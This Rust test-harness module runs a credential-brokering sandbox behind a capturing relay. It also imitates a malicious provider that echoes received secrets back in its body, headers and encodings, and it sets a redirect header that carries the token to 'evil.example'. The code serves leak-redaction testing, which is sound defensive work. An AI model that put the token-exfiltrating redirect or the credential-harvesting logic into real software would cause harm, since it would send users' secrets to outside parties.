//! The sandbox in a process of its own, and in front of it a relay that hears every byte of both directions. It also
//! plays the worst provider there is: one that says back what it was sent.

use std::io::{BufRead, BufReader, Read};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};

use axum::body::Body;
use axum::extract::State;
use axum::http::{HeaderMap, Request, Response, StatusCode};
use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use bytes::Bytes;
use futures_util::{StreamExt as _, stream};
use serde_json::{Value, json};

/// What begins the path of a provider that says everything back: `/echo/STATUS`, or `/echo/drop`.
const ECHO: &str = "/echo/";

/// What every echo holds beside the credential: it must be found wherever bodies are.
pub(crate) const MARK: &str = "the-echo-was-here";

/// One exchange.
#[derive(Clone)]
pub(crate) struct Captured {
    pub(crate) target: String,
    pub(crate) request: Bytes,
    pub(crate) answer: Bytes,
}

#[derive(Clone)]
struct Relay {
    upstream: String,
    client: reqwest::Client,
    captured: Arc<Mutex<Vec<Captured>>>,
}

/// The sandbox and its relay.
pub(crate) struct Backend {
    sandbox: Child,
    pub(crate) url: String,
    pub(crate) key: String,
    captured: Arc<Mutex<Vec<Captured>>>,
    runtime: tokio::runtime::Runtime,
}

impl Backend {
    pub(crate) fn start(arguments: &[&str]) -> Self {
        // A second test of this process finds it installed.
        let _ = rustls::crypto::ring::default_provider().install_default();
        // As sent, as answered: nothing followed, nothing unpacked.
        let client =
            reqwest::Client::builder().no_proxy().gzip(false).redirect(reqwest::redirect::Policy::none());
        let client = client.build().unwrap();
        let mut sandbox = Command::new(env!("CARGO_BIN_EXE_grantdeck"))
            .args(["sandbox", "--port", "0", "--rate-limit", "0"])
            .args(arguments)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut lines = BufReader::new(sandbox.stdout.take().unwrap());
        let mut exported = || loop {
            let mut line = String::new();
            assert!(lines.read_line(&mut line).unwrap() > 0, "the sandbox ended");
            if let Some((_, value)) =
                line.trim().strip_prefix("export ").and_then(|rest| rest.split_once('='))
            {
                return value.trim_matches('\'').to_owned();
            }
        };
        let (upstream, key) = (exported(), exported());
        std::thread::spawn(move || lines.read_to_end(&mut Vec::new()));
        let runtime =
            tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
        let captured = Arc::default();
        let relay = Relay { upstream, client, captured: Arc::clone(&captured) };
        let url = runtime.block_on(async {
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let url = format!("http://{}", listener.local_addr().unwrap());
            let router = axum::Router::new().fallback(pass_on).with_state(relay);
            tokio::spawn(async move { axum::serve(listener, router).await });
            url
        });
        Self { sandbox, url, key, captured, runtime }
    }

    /// Where a provider's URL is answered.
    pub(crate) fn provider(&self, host_and_path: &str) -> String {
        format!("{}/provider/https/{host_and_path}", self.url)
    }

    /// Everything so far whose path begins so.
    pub(crate) fn captured(&self, path: &str) -> Vec<Captured> {
        let captured = self.captured.lock().unwrap();
        captured.iter().filter(|captured| captured.target.starts_with(path)).cloned().collect()
    }

    /// Every credential that was handed out: what it is, and itself.
    pub(crate) fn credentials(&self) -> Vec<(String, String)> {
        let mut found = Vec::new();
        for captured in self.captured("/sdk/token") {
            let Ok(answer) = serde_json::from_slice::<Value>(&captured.answer) else { continue };
            let Some(provider) = answer["provider_id"].as_str() else { continue };
            let mut note = |name: &str, value: &str| {
                // A region or a service is none.
                if value.len() >= 16 {
                    found.push((format!("{provider} {name}"), value.to_owned()));
                }
                let pair = BASE64_STANDARD.decode(value).ok().and_then(|pair| String::from_utf8(pair).ok());
                if let Some((_, password)) = pair.as_deref().and_then(|pair| pair.split_once(':')) {
                    found.push((format!("{provider} password"), password.to_owned()));
                }
            };
            note("token", answer["access_token"].as_str().unwrap());
            for (name, value) in answer["additional_credentials"].as_object().into_iter().flatten() {
                note(name, value.as_str().unwrap());
            }
        }
        found.sort();
        found.dedup();
        found
    }
}

impl Drop for Backend {
    fn drop(&mut self) {
        let _ = self.sandbox.kill();
        let _ = self.sandbox.wait();
        let _ = &self.runtime;
    }
}

async fn pass_on(State(relay): State<Relay>, request: Request<Body>) -> Response<Body> {
    let (head, body) = request.into_parts();
    let body = axum::body::to_bytes(body, 1 << 24).await.unwrap();
    let target = head.uri.path_and_query().unwrap().to_string();
    if let (true, Some((_, effect))) = (target.starts_with("/provider/"), target.split_once(ECHO)) {
        return echo(effect, &target, &head.headers);
    }
    let sent = relay.client.request(head.method, format!("{}{target}", relay.upstream)).headers(head.headers);
    let answer = sent.body(body.clone()).send().await.unwrap();
    let (status, headers) = (answer.status(), answer.headers().clone());
    let bytes = answer.bytes().await.unwrap();
    relay.captured.lock().unwrap().push(Captured { target, request: body, answer: bytes.clone() });
    let mut answer = Response::new(Body::from(bytes));
    *answer.status_mut() = status;
    *answer.headers_mut() = headers;
    answer
}

/// Says back what came, in every way that providers have.
fn echo(effect: &str, target: &str, headers: &HeaderMap) -> Response<Body> {
    let text = |value: &axum::http::HeaderValue| String::from_utf8_lossy(value.as_bytes()).into_owned();
    let came: Vec<(String, String)> =
        headers.iter().map(|(name, value)| (name.to_string(), text(value))).collect();
    let secret = came
        .iter()
        .find(|(name, _)| ["authorization", "x-warehouse-token", "dd-api-key"].contains(&name.as_str()));
    let secret = secret.map_or("", |(_, value)| value.as_str());
    let token = secret.rsplit(' ').next().unwrap_or_default();
    let body = json!({
        "mark": MARK,
        "error": format!("no credential like {secret} is known"),
        "came": came.iter().map(|(name, value)| json!({ "name": name, "value": value })).collect::<Vec<_>>(),
        "asked": target,
        "base64": BASE64_STANDARD.encode(token),
        "base64_of_line": BASE64_STANDARD.encode(format!("authorization: {secret}")),
        "query": url::form_urlencoded::byte_serialize(secret.as_bytes()).collect::<String>(),
    });
    let body = body.to_string();
    let effect = effect.split(['?', '/']).next().unwrap();
    let mut answer = if effect == "drop" {
        let (first, _) = body.split_at(body.len() / 2);
        let first = Ok(Bytes::from(first.to_owned()));
        let end = stream::once(async {
            // What there is leaves first.
            tokio::task::yield_now().await;
            Err(std::io::Error::other("dropped"))
        });
        Response::new(Body::from_stream(stream::iter([first]).chain(end)))
    } else if effect == "wide" {
        Response::new(Body::from(body.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>()))
    } else {
        Response::new(Body::from(body))
    };
    let status = effect.parse().ok().and_then(|status| StatusCode::from_u16(status).ok());
    *answer.status_mut() = status.unwrap_or_default();
    let mut set = |name: &'static str, value: String| {
        answer.headers_mut().insert(name, value.parse().unwrap());
    };
    set(
        "content-type",
        if effect == "wide" { "text/plain; charset=utf-16le" } else { "application/json" }.to_owned(),
    );
    set("location", format!("https://evil.example/?t={token}"));
    set(
        "www-authenticate",
        format!("Bearer error=\"invalid_token\", error_description=\"{token} has ended\""),
    );
    set("x-echo", secret.to_owned());
    answer
}
